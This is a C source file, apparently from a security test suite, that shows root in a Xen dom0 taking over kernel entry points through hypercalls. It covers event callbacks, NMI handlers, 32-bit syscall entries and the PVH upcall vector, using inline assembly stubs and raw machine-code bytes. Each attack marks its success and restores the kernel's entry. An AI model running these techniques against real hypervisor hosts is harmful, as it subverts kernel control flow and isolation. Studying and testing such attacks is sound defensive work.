// SPDX-License-Identifier: GPL-2.0-only
/*
 * Entries into the dom0 kernel, by every hypercall that sets one: the events,
 * NMIs and 32-bit system calls of a PV kernel, and the one interrupt by which
 * Xen reaches a PVH kernel.
 */
#include "entry.h"

#include <inttypes.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include <xen/callback.h>
#include <xen/hvm/hvm_op.h>
#include <xen/nmi.h>
#include <xen/vcpu.h>

#include "../frames/paging.h"
#include "vcpu.h"

static const char pv_only[] =
    "PV only: a PVH kernel's entries are the processor's";

/* ---- entries that undo themselves ---- */

/*
 * What the entry below has Xen do before it goes on: give the kernel its own
 * entry back. The next event may find another process's memory here.
 */
callback_register_t once_undo;

void once_entry(void);

__asm__(".pushsection .text\n"
        ".globl once_entry\n"
        "once_entry:\n"
        "    push %rax\n"
        "    push %rcx\n"
        "    push %r11\n"
        "    push %rdi\n"
        "    push %rsi\n"
        "    call write_entry_mark\n"
        "    xor %edi, %edi\n" /* CALLBACKOP_register */
        "    lea once_undo(%rip), %rsi\n"
        "    mov $30, %eax\n" /* __HYPERVISOR_callback_op */
        "    syscall\n"
        "    pop %rsi\n"
        "    pop %rdi\n"
        "    pop %r11\n"
        "    pop %rcx\n"
        "    pop %rax\n"
        "    jmp *entry_next(%rip)\n"
        ".popsection\n");

/* A timer's event, if nothing else, comes within this time. */
static bool marked_within(unsigned int milliseconds)
{
    while ( milliseconds-- && !victim_has_mark() )
        spin(1000 * 1000);

    return victim_has_mark();
}

/* Have @set put our entry in the place of the kernel's for events. */
static enum outcome take_event(void (*set)(void))
{
    const uint64_t kernel = kernel_symbol(
        "xen_asm_exc_xen_hypervisor_callback");
    bool ran;

    if ( !dom0_is_pv() )
        return not_applicable(pv_only);
    if ( !kernel || !kernel_symbol("xen_failsafe_callback") ||
         !kernel_symbol("xen_entry_SYSCALL_64") || !victim() )
        return cannot_try("no address for the kernel's entries or variable");

    prepare_entry();
    entry_next = kernel;
    once_undo = (callback_register_t){ .type = CALLBACKTYPE_event,
                                       .address = kernel };
    set();
    ran = marked_within(100);
    register_callback(CALLBACKTYPE_event, kernel);

    return effect_either(ran, "userspace code", "took an event as the kernel",
                         "did not run");
}

static void set_event(void)
{
    register_callback(CALLBACKTYPE_event, (uintptr_t)once_entry);
}

/*
 * U-TRAP-EVENT: have Xen deliver the kernel's events to code of root's.
 *
 * Events come whenever they like, thus also while a vital part of the kernel is
 * at work. The code here takes one, gives the kernel its entry back and hands
 * the event on.
 */
ATTACK_BY("U-TRAP-EVENT", "take the kernel's events through callback_op",
          take_event(set_event))

static void set_all(void)
{
    hypercall3(__HYPERVISOR_set_callbacks, once_entry,
               kernel_symbol("xen_failsafe_callback"),
               kernel_symbol("xen_entry_SYSCALL_64"));
    /* set_callbacks has no flags: events are to be masked here. */
    register_callback(CALLBACKTYPE_failsafe,
                      kernel_symbol("xen_failsafe_callback"));
    register_callback(CALLBACKTYPE_syscall,
                      kernel_symbol("xen_entry_SYSCALL_64"));
}

/*
 * U-TRAP-SETALL: the same through the older hypercall.
 *
 * set_callbacks sets three entries at once, of which two stay as they are here.
 */
ATTACK_BY("U-TRAP-SETALL", "take the kernel's events through set_callbacks",
          take_event(set_all))

/* ---- NMIs ---- */

static void register_nmi(uint64_t address)
{
    struct xennmi_callback callback = { .handler_address = address };

    hypercall2(__HYPERVISOR_nmi_op, XENNMI_register_callback, &callback);
}

static void register_nmi_as_callback(uint64_t address)
{
    register_callback(CALLBACKTYPE_nmi, address);
}

static enum outcome take_nmi(void (*set)(uint64_t address))
{
    const uint64_t kernel = kernel_symbol("xen_asm_xenpv_exc_nmi");

    if ( !dom0_is_pv() )
        return not_applicable(pv_only);
    if ( !kernel || !victim() )
        return cannot_try("no address for the kernel's entry or variable");

    prepare_entry();
    set((uintptr_t)trap_entry);
    vcpu_op(VCPUOP_send_nmi, 0, 0);
    set(kernel);

    return effect_either(victim_has_mark(), "userspace code",
                         "took an NMI as the kernel", "did not run");
}

/*
 * U-TRAP-NMI: have Xen deliver NMIs to code of root's.
 *
 * vcpu_op sends the NMI, so that there is no need to wait for one. The code
 * returns to where the kernel was, which never learns of it.
 */
ATTACK_BY("U-TRAP-NMI", "take the kernel's NMIs through nmi_op",
          take_nmi(register_nmi))

/*
 * U-TRAP-NMICB: the same through callback_op.
 */
ATTACK_BY("U-TRAP-NMICB", "take the kernel's NMIs through callback_op",
          take_nmi(register_nmi_as_callback))

/* ---- 32-bit system calls ---- */

#define USER_CS32 0xe023
#define USER_CS64 0xe033
#define USER_SS   0xe02b

uint64_t narrow_stack;
uint64_t narrow_code;

void make_narrow_syscall(void);
void narrow_entry(void);
extern const uint8_t narrow_return[];

/*
 * Out to 32-bit code and back. Back is either where the 32-bit code itself
 * jumps to, or where our entry, on its own, sends the CPU: the kernel need not
 * have 32-bit system calls at all.
 */
__asm__(".pushsection .text\n"
        ".globl make_narrow_syscall\n"
        "make_narrow_syscall:\n"
        "    push %rbx\n"
        "    push %rbp\n"
        "    push %r12\n"
        "    push %r13\n"
        "    push %r14\n"
        "    push %r15\n"
        "    mov %rsp, narrow_stack(%rip)\n"
        "    push $0xe023\n"
        "    push narrow_code(%rip)\n"
        "    lretq\n"
        ".globl narrow_return\n"
        "narrow_return:\n"
        "    mov narrow_stack(%rip), %rsp\n"
        "    pop %r15\n"
        "    pop %r14\n"
        "    pop %r13\n"
        "    pop %r12\n"
        "    pop %rbp\n"
        "    pop %rbx\n"
        "    ret\n"
        ".globl narrow_entry\n"
        "narrow_entry:\n"
        "    call write_entry_mark\n"
        "    pop %rcx\n"
        "    pop %r11\n"
        "    lea narrow_return(%rip), %rax\n"
        "    mov %rax, (%rsp)\n"
        "    movq $0xe033, 8(%rsp)\n"
        "    movq $0xe02b, 32(%rsp)\n"
        "    push $0\n"
        "    push %rcx\n"
        "    push %r11\n"
        "    push %rax\n"
        "    mov $23, %eax\n" /* __HYPERVISOR_iret */
        "    syscall\n"
        ".popsection\n");

/* 32-bit code: mov $getpid, %eax; syscall; ljmp $USER_CS64, $narrow_return. */
static bool write_narrow_code(void)
{
    const uint32_t back = (uint32_t)(uintptr_t)narrow_return;
    const uint16_t selector = USER_CS64;
    uint8_t *code = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE | PROT_EXEC,
                         MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

    if ( code == MAP_FAILED || back != (uintptr_t)narrow_return )
        return false;

    memcpy(code, "\xb8\x14\x00\x00\x00\x0f\x05\xea", 8);
    memcpy(code + 8, &back, sizeof(back));
    memcpy(code + 12, &selector, sizeof(selector));
    narrow_code = (uintptr_t)code;

    return true;
}

/*
 * In a process of its own: a kernel that has 32-bit system calls returns to
 * where only a 32-bit program has code.
 */
static void narrow_syscall(void)
{
    const pid_t child = fork();

    if ( child == 0 )
    {
        make_narrow_syscall();
        _exit(0);
    }
    if ( child > 0 )
        waitpid(child, NULL, 0);
}

/*
 * U-TRAP-NARROW: have Xen deliver 32-bit system calls to code of root's.
 *
 * A third entry for system calls is there for programs that switch to 32-bit
 * code. Nobody else uses it here, so that all of them come from this program.
 */
PV_ATTACK("U-TRAP-NARROW", "take 32-bit system calls through callback_op",
          "a PVH kernel's entries are the processor's")
{
    const uint64_t kernel = kernel_symbol("xen_entry_SYSCALL_compat");

    if ( !kernel || !victim() )
        return cannot_try("no address for the kernel's entry or variable");
    if ( !write_narrow_code() )
        return cannot_try("no memory below 4 GiB");

    prepare_entry();
    register_callback(CALLBACKTYPE_syscall32, (uintptr_t)narrow_entry);
    narrow_syscall();
    register_callback(CALLBACKTYPE_syscall32, kernel);

    return effect_either(victim_has_mark(), "userspace code",
                         "took a system call as the kernel", "did not run");
}

/* ---- PVH ---- */

static void set_upcall(uint8_t vector)
{
    struct xen_hvm_evtchn_upcall_vector set = { .vector = vector };

    hvm_op(HVMOP_set_evtchn_upcall_vector, &set);
}

/*
 * U-TRAP-UPCALL: have Xen raise another interrupt than the kernel expects.
 *
 * All events reach a PVH kernel by one vector, which an HVM operation sets for
 * each vCPU. With that of another interrupt the kernel counts one of those for
 * each event, and learns of no event.
 */
PVH_ATTACK("U-TRAP-UPCALL", "move the kernel's events to another vector",
           "a PV kernel has no vectors")
{
    static const uint8_t of_events = 0xf3, of_rescheduling = 0xfd;
    const unsigned long before = interrupts("RES:");
    unsigned long taken;

    stay_on_cpu(0);
    set_upcall(of_rescheduling);
    spin(20 * 1000 * 1000);
    set_upcall(of_events);
    taken = interrupts("RES:") - before;

    return effect(taken, "the kernel took %lu interrupts of the wrong kind",
                  taken);
}
